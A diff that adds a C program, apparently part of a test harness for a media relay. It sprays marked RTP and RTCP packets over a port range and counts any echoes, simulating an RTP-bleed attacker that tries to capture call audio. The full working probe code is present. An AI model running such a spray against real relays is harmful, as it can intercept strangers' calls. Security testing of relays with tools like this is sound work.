@@ -1,0 +1,142 @@
+/* SPDX-License-Identifier: GPL-2.0-only */
+/*
+ * rtp_spray.c - the attacker: RTP and RTCP to a whole port range, over and over, listening for any echo
+ *
+ *   rtp_spray ADDRESS FIRST LAST PACKETS-PER-SECOND REPORT-FILE
+ *
+ * Each even port gets PCMU, as a phone sends it, each odd one a sender report, all from one socket, so that
+ * a relay that takes the attacker for a phone sends the call to this very socket. Ends on SIGTERM; the
+ * report file is written at every round and at the end: "rounds=N sent=N heard=N".
+ */
+#include <errno.h>
+#include <inttypes.h>
+#include <poll.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/timerfd.h>
+#include <unistd.h>
+#include "peer_sdp.h"
+#include "rtp_mark.h"
+
+#define TICK_NS	  10000000
+#define TICKS_S	  100
+#define MOST_TICK 1000 /* packets */
+
+struct spray {
+	int fd;
+	struct sockaddr_storage relay;
+	socklen_t relay_len;
+	unsigned int first, last, at;
+	uint32_t count;
+	uint64_t rounds, sent, heard;
+	const char *report;
+};
+
+static volatile sig_atomic_t ended;
+
+static void on_term(int signal)
+{
+	(void)signal;
+	ended = 1;
+}
+
+/* Replaced as a whole, so that a reader never sees half of it. */
+static void report_write(const struct spray *spray)
+{
+	char part[4096];
+	FILE *out;
+
+	snprintf(part, sizeof(part), "%s.part", spray->report);
+	out = fopen(part, "w");
+	if (!out)
+		return;
+	fprintf(out, "rounds=%" PRIu64 " sent=%" PRIu64 " heard=%" PRIu64 "\n", spray->rounds,
+		spray->sent, spray->heard);
+	if (fclose(out) == 0)
+		(void)!rename(part, spray->report);
+}
+
+static void spray_one(struct spray *spray)
+{
+	uint8_t packet[RTP_PACKET];
+	size_t len = sizeof(packet);
+
+	if (spray->at & 1) {
+		len = rtcp_mark_write(packet, MARK_ATTACKER, spray->count + 1);
+	} else {
+		memset(packet, 0xff, sizeof(packet));
+		rtp_mark_write(packet, 0, (struct rtp_mark){ MARK_ATTACKER, spray->count });
+	}
+	((struct sockaddr_in *)&spray->relay)->sin_port = htons((uint16_t)spray->at);
+	if (sendto(spray->fd, packet, len, 0, (struct sockaddr *)&spray->relay, spray->relay_len) ==
+	    (ssize_t)len)
+		spray->sent++;
+	if (spray->at++ == spray->last) {
+		spray->at = spray->first;
+		spray->rounds++;
+		spray->count++;
+		report_write(spray);
+	}
+}
+
+static void spray_listen(struct spray *spray)
+{
+	uint8_t packet[2048];
+
+	while (recv(spray->fd, packet, sizeof(packet), MSG_DONTWAIT) >= 0)
+		spray->heard++;
+}
+
+static void spray_run(struct spray *spray, int pacer, unsigned int per_tick)
+{
+	struct pollfd fds[2] = { { .fd = pacer, .events = POLLIN },
+				 { .fd = spray->fd, .events = POLLIN } };
+	uint64_t ticks;
+
+	while (!ended) {
+		if (poll(fds, 2, -1) < 0)
+			continue;
+		if (fds[0].revents && read(pacer, &ticks, sizeof(ticks)) == sizeof(ticks)) {
+			/* Time that was missed is not made up for: the machine may be small. */
+			for (unsigned int i = 0; i < per_tick; i++)
+				spray_one(spray);
+		}
+		spray_listen(spray);
+	}
+}
+
+int main(int argc, char **argv)
+{
+	struct itimerspec pace = { { 0, TICK_NS }, { 0, TICK_NS } };
+	struct sigaction term = { .sa_handler = on_term };
+	struct spray spray = { .fd = -1 };
+	unsigned int per_tick;
+	int pacer;
+
+	if (argc != 6 || !peer_addr(argv[1], 0, &spray.relay)) {
+		fprintf(stderr,
+			"usage: rtp_spray ADDRESS FIRST LAST PACKETS-PER-SECOND REPORT-FILE\n");
+		return EXIT_FAILURE;
+	}
+	spray.relay_len = spray.relay.ss_family == AF_INET ? sizeof(struct sockaddr_in)
+							   : sizeof(struct sockaddr_in6);
+	spray.first = spray.at = (unsigned int)strtoul(argv[2], NULL, 10);
+	spray.last = (unsigned int)strtoul(argv[3], NULL, 10);
+	per_tick = (unsigned int)strtoul(argv[4], NULL, 10) / TICKS_S;
+	spray.report = argv[5];
+	spray.fd = socket(spray.relay.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);
+	pacer = timerfd_create(CLOCK_MONOTONIC, TFD_CLOEXEC);
+	if (spray.fd < 0 || pacer < 0 || per_tick > MOST_TICK ||
+	    sigaction(SIGTERM, &term, NULL) < 0 || timerfd_settime(pacer, 0, &pace, NULL) < 0) {
+		perror("rtp_spray");
+		return EXIT_FAILURE;
+	}
+	spray_run(&spray, pacer, per_tick);
+	spray_listen(&spray);
+	report_write(&spray);
+	close(pacer);
+	close(spray.fd);
+	return EXIT_SUCCESS;
+}
